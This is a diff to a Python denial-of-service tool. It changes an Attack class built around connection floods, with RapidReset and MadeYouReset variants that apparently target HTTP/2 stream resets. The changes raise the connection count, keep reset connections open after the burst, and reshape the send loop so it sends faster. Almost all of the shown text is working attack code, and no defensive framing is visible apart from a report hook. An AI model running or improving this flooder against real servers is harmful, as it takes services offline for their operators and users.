@@ -39,7 +39,7 @@ def literal(name, value):
 class Attack:
     """Connections that are made again when they are cut, and send as fast as they may."""
 
-    connections = 8
+    connections = 32
     reads = True
     # Between two bursts of a connection; 0 is as fast as the socket takes them.
     pause = 0.0
@@ -67,8 +67,9 @@ class RapidReset(Attack):
         )
 
     def burst(self, state):
+        # Once, and then it stays until it is cut.
         state["sent"] = state.get("sent", 0) + 1
-        return self.blob if state["sent"] == 1 else None
+        return self.blob if state["sent"] == 1 else b""
 
 
 class MadeYouReset(Attack):
@@ -373,21 +374,21 @@ def run(attack, port, report):
                     if not data:
                         close(slot)
                         continue
-                if events & selectors.EVENT_WRITE or "read" in slot.state:
-                    if slot.unsent:
+                if slot.unsent:
+                    if events & selectors.EVENT_WRITE:
                         count = slot.socket.send(slot.unsent)
                         sent += count
                         slot.unsent = slot.unsent[count:]
-                    elif not attack.pause:
-                        more = attack.burst(slot.state)
-                        if more is None:
-                            close(slot)
-                            continue
-                        slot.unsent = memoryview(more)
-                    if not slot.unsent and attack.pause:
-                        watch(slot, selectors.EVENT_READ * attack.reads)
-                    elif isinstance(attack, Handshakes) and not slot.unsent:
-                        watch(slot, selectors.EVENT_READ)
+                elif attack.pause:
+                    watch(slot, selectors.EVENT_READ * attack.reads)
+                else:
+                    more = attack.burst(slot.state)
+                    if more is None:
+                        close(slot)
+                        continue
+                    slot.unsent = memoryview(more)
+                    # With nothing more to say it waits to be answered, or cut.
+                    watch(slot, selectors.EVENT_READ | selectors.EVENT_WRITE * bool(more))
             except BlockingIOError:
                 pass
             except OSError:
